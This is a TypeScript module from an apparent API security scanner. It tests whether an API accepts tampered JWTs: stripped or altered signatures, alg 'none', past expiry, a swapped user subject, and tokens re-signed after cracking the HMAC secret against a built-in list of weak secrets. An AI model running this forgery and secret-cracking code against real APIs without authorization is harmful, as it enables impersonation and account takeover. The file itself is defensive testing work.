// API2:2023 Broken Authentication: tampered JWTs (alg none, signature stripped or altered, expired,
// another user's subject, a guessable HMAC secret) that the API still accepts.

import { createHmac } from 'node:crypto';
import type { Endpoint } from '../../../../shared/contract';
import type { Exchange, RequestAuth } from '../../http/exchange';
import { isMeLike } from '../../identities/verify';
import { pathParamNames, type PreparedRequest } from '../../requests';
import { isEmptyBody } from '../../similarity';
import { defineCheck, describeEndpoint } from '../common/helpers';
import { carriesDataOf, identityMarks, isObj, looksLikeError, marksIn, type Json } from '../common/objects';
import type { CheckContext, FindingDraft } from '../types';
import { OWASP_API2 } from '../common/references';
import { headerVariants, KEY_PATHS } from './jwt-header-attacks';
import type { ForgeRecipe } from '../../jwt-forge';


// ---------------------------------------------------------------- the endpoint auth checks probe

interface AuthProbe {
  endpoint: Endpoint;
  request: PreparedRequest;
  key1: Exchange;
  anon: Exchange;
  /**
   * Does the answer carry key 1's data? Baselines are snapshots and other checks may have changed key 1's
   * record since (a PATCH /me): on a mismatch, key 1 reads again once and that read is compared too.
   */
  asKey1(ex: Exchange): Promise<boolean>;
}

/**
 * A GET that proves who is calling: key 1 gets content, a request without credentials is refused
 * (401/403). A /me-like endpoint first. Its exchanges are baselines (no request charged).
 */
export async function authProbe(ctx: CheckContext): Promise<AuthProbe | null> {
  const candidates = ctx.endpoints
    .filter((e) => e.method === 'GET' && pathParamNames(e.path).length === 0)
    .map((e, i) => ({ e, rank: isMeLike(e) ? 0 : 1, i }))
    .sort((a, b) => a.rank - b.rank || a.i - b.i)
    .slice(0, 4)
    .map((x) => x.e);
  for (const endpoint of candidates) {
    const key1 = await ctx.baseline('key1', endpoint);
    if (!key1?.ok || isEmptyBody(key1) || looksLikeError(key1)) continue;
    const anon = await ctx.baseline('anonymous', endpoint);
    if (anon?.status !== 401 && anon?.status !== 403) continue;
    const request = await ctx.baselineRequest(endpoint, 'key1');
    if (!request) continue;
    let fresh: Exchange | null | undefined;
    const asKey1 = async (ex: Exchange): Promise<boolean> => {
      if (!ex.ok || looksLikeError(ex)) return false;
      if (carriesDataOf(ex, key1)) return true;
      if (fresh === undefined) fresh = ctx.budgetLeft() > 0 ? await ctx.sendPrepared(request, { kind: 'key', key: 1 }) : null;
      return !!fresh?.ok && carriesDataOf(ex, fresh);
    };
    return { endpoint, request, key1, anon, asKey1 };
  }
  return null;
}

// ---------------------------------------------------------------- JWT tampering

interface Jwt {
  header: Json;
  payload: Json;
  /** The token as key 1 gave it. */
  raw: string;
  h: string;
  p: string;
  sig: string;
}

const enc = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');

export function parseJwt(raw: string | null): Jwt | null {
  if (!raw) return null;
  const token = raw.replace(/^bearer\s+/i, '').trim();
  const parts = token.split('.');
  if (parts.length !== 3 || !/^[A-Za-z0-9_-]+$/.test(parts[0]!) || !/^[A-Za-z0-9_-]+$/.test(parts[1]!)) return null;
  try {
    const header = JSON.parse(Buffer.from(parts[0]!, 'base64url').toString('utf8')) as unknown;
    const payload = JSON.parse(Buffer.from(parts[1]!, 'base64url').toString('utf8')) as unknown;
    if (!isObj(header) || !isObj(payload) || typeof header.alg !== 'string') return null;
    return { header, payload, raw: token, h: parts[0]!, p: parts[1]!, sig: parts[2]! };
  } catch {
    return null;
  }
}

const HMAC: Record<string, string> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };

function sign(alg: string, secret: string, input: string): string {
  return createHmac(HMAC[alg]!, secret).update(input).digest('base64url');
}

/** Secrets found in tutorials, defaults and leaked configs; tried offline against the key's own signature. */
export const WEAK_JWT_SECRETS = [
  'secret', 'Secret', 'SECRET', 'secretkey', 'secret_key', 'secret-key', 'mysecret', 'my_secret', 'mysecretkey', 'supersecret', 'super-secret',
  'topsecret', 'jwt', 'jwtsecret', 'jwt_secret', 'jwt-secret', 'JWT_SECRET', 'jwtkey', 'key', 'private', 'password', 'passw0rd', 'changeme',
  'change-me', 'changeit', '123456', '12345678', '1234567890', 'qwerty', 'admin', 'test', 'testing', 'dev', 'development', 'default', 'token',
  'app_secret', 'appsecret', 'your-256-bit-secret', 'your-secret-key', 'your_jwt_secret', 'keyboard cat', 'shhhhh', 's3cr3t', 'random',
  'hello', 'letmein', 'example', 'api', 'apikey', 'secret123', 'secretsecret', 'thisismysecret', 'gsk', '',
];

/** The key's HMAC secret when it is one of the well-known ones. */
export function crackJwt(jwt: Jwt): string | null {
  const alg = String(jwt.header.alg).toUpperCase();
  if (!HMAC[alg]) return null;
  const input = `${jwt.h}.${jwt.p}`;
  for (const s of WEAK_JWT_SECRETS) if (sign(alg, s, input) === jwt.sig) return s;
  return null;
}

/** The claim holding the user (its value is one of key 1's identity values), to swap for key 2's. */
function userClaim(ctx: CheckContext, payload: Json): { claim: string; value: unknown } | null {
  const id1 = ctx.identities.key1.values;
  const id2 = ctx.identities.key2?.values;
  if (!id2) return null;
  for (const claim of ['sub', 'user_id', 'userId', 'uid', 'id', 'username', 'preferred_username', 'email', 'name', 'login']) {
    const v = payload[claim];
    if (v === undefined || v === null || typeof v === 'object') continue;
    for (const [field, value] of Object.entries(id1)) {
      if (String(v) !== value || !id2[field] || id2[field] === value) continue;
      const other = id2[field]!;
      return { claim, value: typeof v === 'number' && /^\d+$/.test(other) ? Number(other) : other };
    }
  }
  return null;
}

export const JWT_CVSS = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N';
const JWT_REFS = [
  OWASP_API2,
  'https://cwe.mitre.org/data/definitions/347.html',
  'https://portswigger.net/web-security/jwt',
  'https://cheatsheetseries.owasp.org/cheatsheets/JSON_Web_Token_for_Java_Cheat_Sheet.html',
];

interface Variant {
  id: string;
  name: string;
  token: string;
  what: string;
  /** Accepted means acting as key 2 (changed subject) rather than as key 1. */
  asKey2?: boolean;
  cvss?: string;
  notes?: string[];
  /** A header attack: only sent when the API checks signatures at all (else any of them passes and proves nothing more). */
  header?: boolean;
  /** How the curl command builds the token again from key 1, with a fresh exp. */
  forge?: Omit<ForgeRecipe, 'from'>;
}

export const jwtTampering = defineCheck({
  id: 'api2-jwt-tampering',
  title: 'Tampered JWT accepted',
  flag: 'BKEN_AUTH',
  owasp: 'API2:2023',
  cwe: 'CWE-347',
  confidence: 'high',
  cvss: JWT_CVSS,
  kind: 'active',
  safety: 'safe',
  scope: 'api',
  // The basic variants (14), the key search (KEY_PATHS at the origin and the base path, and a jwks_uri), four key-confusion forms and the kid, jwk, jku, x5c and x5u tokens.
  budget: 14 + KEY_PATHS.length * 2 + 1 + 4 + 6,
  needsKey2: false,
  techniques: ['API2.2'],
  description:
    'When key 1 is a JWT: on an endpoint where key 1 gets content and a request without credentials is refused (a /me-like one first), sends ' +
    'key 1\'s token with its signature stripped, rebuilt with `alg: none` (also "None"/"NONE"), with the signature altered, with `exp` in the ' +
    'past, and with the user claim (sub, user_id...) changed to key 2\'s id; then the header attacks: for an RS/PS/ES token, algorithm ' +
    'confusion (re-signed with HS256 and the API\'s own public key as the secret: the key as served, SPKI and PKCS#1 PEM, with and without ' +
    'the final newline), the key found as a PEM or key set in any answer the scan has, else at the well-known addresses (/.well-known/jwks.json, ' +
    'an OpenID configuration\'s jwks_uri, /jwks.json, /keys, /public.pem...); `kid` pointing at an empty file (../../dev/null, signed with an ' +
    'empty key) and `kid` SQL that selects a key of the scan\'s choosing; a key of the scan\'s own embedded as `jwk`, and named by `jku` ' +
    'on the scan\'s own listener; the same key in a self-signed certificate (made once per scan), embedded as `x5c` and named by `x5u` on ' +
    'the scan\'s listener (served as PEM, as RFC 7515 specifies). Every variant is sent and each accepted one reported (header attacks only when a stripped or altered ' +
    'signature is refused: otherwise they prove nothing more). Tries well-known HMAC secrets offline against the token\'s own ' +
    'signature and, when one matches, sends a token re-signed with it. A random JWT-shaped token is sent first as a control. Finding: a ' +
    'tampered token answered 2xx with key 1\'s data (key 2\'s data for the changed subject) while the control is refused. A key that is ' +
    'itself past its `exp` and still accepted is reported without a request.',
  coverage:
    'Only when key 1 is a JWT sent as a bearer token (or in the header the spec names). An expired token can only be tested properly signed ' +
    'when the secret is guessable or when the key given is already expired; otherwise the expired variant with the original signature shows ' +
    'missing signature checks rather than a missing expiry check. Key confusion needs the public key where the scan can read it (an answer, a ' +
    'well-known address); recovering the public key from two signatures is not tried. ' +
    '`jku` and `x5u` need the scan\'s listener, which a target outside this machine cannot reach; `x5u` is served only as a PEM certificate ' +
    '(not as a JSON array or a DER file). ' +
    'When the made-up control token itself is accepted, that is reported as "Made-up JWT accepted" unless the missing-credentials check ' +
    'reported the same endpoint by the end of the scan.',
  remediation:
    'Verify every token with a library that pins the expected algorithm(s) (never `none`, never the algorithm the token names), checks the ' +
    'signature over header and payload, and enforces `exp`, `nbf`, issuer and audience. Use a long random HMAC secret (≥ 256 bits) from a ' +
    'secret store, or asymmetric keys; never cache verification results by signature.',
  references: JWT_REFS,
  async *run(ctx) {
    const jwt = parseJwt(ctx.credential(1));
    if (!jwt) {
      ctx.skip('Key 1 is not a JWT, so there is no token to tamper with.');
      return;
    }
    const probe = await authProbe(ctx);
    if (!probe) {
      ctx.note('JWT tampering: no GET endpoint where key 1 gets content and a request without credentials is refused; not tested.');
      return;
    }
    const send = (token: string, label: string) => ctx.sendPrepared(probe.request, { kind: 'credential', value: token, label } satisfies RequestAuth);
    const acceptedAsKey1 = (ex: Exchange) => probe.asKey1(ex);
    const now = Math.floor(Date.now() / 1000);
    const ep = probe.endpoint;
    const claims = (p: Json) => JSON.stringify(p).slice(0, 300);
    const finding = (v: Variant, ex: Exchange, control: Exchange, extra: string[] = []): FindingDraft => ({
      endpoint: ep,
      parameter: v.id,
      name: v.name,
      cvss: v.cvss,
      description:
        `${describeEndpoint(ep)} accepted key 1's JWT ${v.what} and answered ${ex.status} with ${v.asKey2 ? 'key 2\'s' : 'key 1\'s'} data, while a made-up ` +
        `token is refused (HTTP ${control.status}). The API does not verify its tokens properly: anyone can ${v.asKey2 ? 'act as any user' : 'forge or keep using tokens'}.`,
      notes: [`Token header: ${JSON.stringify(jwt.header)}; claims: ${claims(jwt.payload)}.`, ...extra],
      exchanges: [
        { label: 'Baseline', exchange: probe.key1 },
        { label: 'Baseline', exchange: probe.anon },
        { label: 'Control: a made-up JWT', exchange: control },
        { label: `Attack: ${v.id}`, exchange: ex },
      ],
      reproduce: ex,
      ...(v.forge ? { forge: { ...v.forge, from: jwt.raw } } : {}),
    });

    // A key past its own expiry that still works needs no request at all.
    const exp = typeof jwt.payload.exp === 'number' ? jwt.payload.exp : null;
    if (exp !== null && exp < now - 60) {
      yield {
        endpoint: ep,
        parameter: 'expired',
        name: 'Expired JWT accepted',
        cvss: 'CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N',
        description:
          `Key 1 is a JWT whose exp (${new Date(exp * 1000).toISOString()}) passed ${Math.round((now - exp) / 60)} minutes before the scan, yet ` +
          `${describeEndpoint(ep)} answered ${probe.key1.status} with its data while a request without credentials is refused. The API ignores ` +
          'token expiry: a stolen token works for ever.',
        notes: [`Token claims: ${claims(jwt.payload)}.`],
        exchanges: [
          { label: 'Baseline: the expired key 1', exchange: probe.key1 },
          { label: 'Baseline', exchange: probe.anon },
        ],
        reproduce: probe.key1,
      };
    }

    const controlHeader = enc({ alg: String(jwt.header.alg), typ: 'JWT' });
    const controlClaims = { sub: `portcullis-${ctx.random.alnum(8)}`, jti: ctx.random.alnum(12) };
    const control = await send(`${controlHeader}.${enc({ ...jwt.payload, ...controlClaims })}.${ctx.random.base64url(32)}`, 'made-up JWT');
    if (control.ok) {
      // The missing-credentials check reports this where it tests the same endpoint; held back, this
      // finding is reported only if it did not (it may be off, or its made-up credential differ).
      yield {
        endpoint: ep,
        parameter: 'made-up-jwt',
        name: 'Made-up JWT accepted',
        deferTo: 'api2-credentials-not-enforced',
        description:
          `${describeEndpoint(ep)} accepted a JWT that no server issued (a random subject and a random signature) and answered ${control.status}, ` +
          `while a request without credentials is refused (HTTP ${probe.anon.status}). The API does not verify its tokens: anyone can make one.`,
        exchanges: [
          { label: 'Baseline', exchange: probe.key1 },
          { label: 'Baseline', exchange: probe.anon },
          { label: 'Attack: a made-up JWT', exchange: control },
        ],
        reproduce: control,
        forge: { header: { alg: String(jwt.header.alg), typ: 'JWT' }, claims: controlClaims, expiry: 'fresh', signing: { kind: 'random' }, from: jwt.raw },
      };
      return;
    }

    const variants: Variant[] = [];
    // The stripped signature first: when an empty signature passes, "alg": "none" (which has none either) proves nothing more.
    const fresh = (header: Json | null, signing: ForgeRecipe['signing'], claims: Json = {}): Omit<ForgeRecipe, 'from'> => ({ header, claims, expiry: 'fresh', signing });
    variants.push({ id: 'signature-stripped', name: 'JWT without signature accepted', token: `${jwt.h}.${jwt.p}.`, what: 'with its signature removed', forge: fresh(null, { kind: 'none' }) });
    for (const alg of ['none', 'None', 'NONE']) variants.push({ id: 'alg-none', name: 'JWT with "alg": "none" accepted', token: `${enc({ ...jwt.header, alg })}.${jwt.p}.`, what: `rebuilt with "alg": "${alg}" and no signature`, forge: fresh({ ...jwt.header, alg }, { kind: 'none' }) });
    const flipped = jwt.sig.length > 4 ? `${jwt.sig.slice(0, -4)}${[...jwt.sig.slice(-4)].map((c) => (c === 'A' ? 'B' : 'A')).join('')}` : ctx.random.base64url(32);
    variants.push({ id: 'signature-altered', name: 'JWT with an altered signature accepted', token: `${jwt.h}.${jwt.p}.${flipped}`, what: 'with its signature altered', forge: fresh(null, { kind: 'altered' }) });
    const expiredClaims = { ...jwt.payload, exp: now - 86_400, ...(typeof jwt.payload.iat === 'number' ? { iat: now - 90_000 } : {}), ...(typeof jwt.payload.nbf === 'number' ? { nbf: now - 90_000 } : {}) };
    variants.push({
      id: 'expired-unsigned',
      name: 'JWT with an edited, past expiry accepted',
      token: `${jwt.h}.${enc(expiredClaims)}.${jwt.sig}`,
      what: 'with `exp` edited to a day in the past (the original signature kept)',
      forge: { header: null, claims: {}, expiry: 'past', signing: { kind: 'original' } },
    });
    const swap = ctx.hasKey2 ? userClaim(ctx, jwt.payload) : null;
    if (swap) {
      variants.push({
        id: 'claims-changed',
        name: 'JWT with another user\'s subject accepted',
        token: `${jwt.h}.${enc({ ...jwt.payload, [swap.claim]: swap.value })}.${jwt.sig}`,
        what: `with its "${swap.claim}" claim changed to key 2's (${String(swap.value)}) and the original signature kept`,
        asKey2: true,
        forge: fresh(null, { kind: 'original' }, { [swap.claim]: swap.value } as Json),
      });
    }

    // Header attacks (key confusion, kid, jwk, jku, x5c, x5u) after the basic variants, in the same loop.
    for (const hv of await headerVariants(ctx, jwt)) variants.push({ ...hv, header: true });

    const key2Marks = identityMarks(ctx, 2);
    const key1Marks = identityMarks(ctx, 1);
    const key2Probe = swap ? await ctx.baseline('key2', ep) : null;
    const reported = new Set<string>();
    for (const v of variants) {
      if (reported.has(v.id) || ctx.budgetLeft() <= 0) continue;
      // Every variant is sent and each accepted one reported; header attacks only where signatures are checked at all.
      if (v.header && (reported.has('signature-stripped') || reported.has('signature-altered'))) continue;
      const ex = await send(v.token, `tampered JWT (${v.id})`);
      const ok = v.asKey2
        ? ex.ok && !looksLikeError(ex) && ((!!key2Probe && carriesDataOf(ex, key2Probe)) || marksIn(key2Marks, ex.body).length > 0) && marksIn(key1Marks, ex.body).length === 0
        : await acceptedAsKey1(ex);
      if (!ok) continue;
      reported.add(v.id);
      yield finding(v, ex, control, v.notes);
    }

    // A guessable HMAC secret: forge a token of our own, and with it test expiry properly.
    const secret = crackJwt(jwt);
    if (secret !== null && ctx.budgetLeft() > 0) {
      const alg = String(jwt.header.alg).toUpperCase();
      const forge = (payload: Json) => {
        const p = enc(payload);
        return `${jwt.h}.${p}.${sign(alg, secret, `${jwt.h}.${p}`)}`;
      };
      const masked = secret === '' ? '(empty)' : `"${secret.slice(0, 2)}${'*'.repeat(Math.max(0, secret.length - 2))}"`;
      const jti = `portcullis-${ctx.random.alnum(10)}`;
      const forged = await send(forge({ ...jwt.payload, jti, ...(exp !== null ? { exp: now + 600 } : {}) }), 'JWT re-signed with the guessed secret');
      if (await acceptedAsKey1(forged)) {
        yield finding(
          { id: 'weak-secret', name: 'JWT signed with a guessable secret', token: '', what: `re-signed with a well-known HMAC secret (${masked}, ${secret.length} characters) after editing its claims`, forge: fresh(null, { kind: 'hmac', alg, secret }, { jti }) },
          forged,
          control,
          ['The secret was found offline by checking a list of well-known secrets against key 1\'s own signature; with it anyone can mint tokens for any user.'],
        );
        if (!reported.has('expired-unsigned') && exp !== null && ctx.budgetLeft() > 0) {
          const expired = await send(forge(expiredClaims), 'expired JWT signed with the guessed secret');
          if (await acceptedAsKey1(expired)) {
            yield finding(
              { id: 'expired', name: 'Expired JWT accepted', token: '', what: 'correctly signed but with `exp` a day in the past', cvss: 'CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N', forge: { header: null, claims: {}, expiry: 'past', signing: { kind: 'hmac', alg, secret } } },
              expired,
              control,
            );
          }
        }
      }
    }
  },
});

// ---------------------------------------------------------------- brute force on login / token / reset
// ---------------------------------------------------------------- credentials in the URL
// ---------------------------------------------------------------- tokens in responses
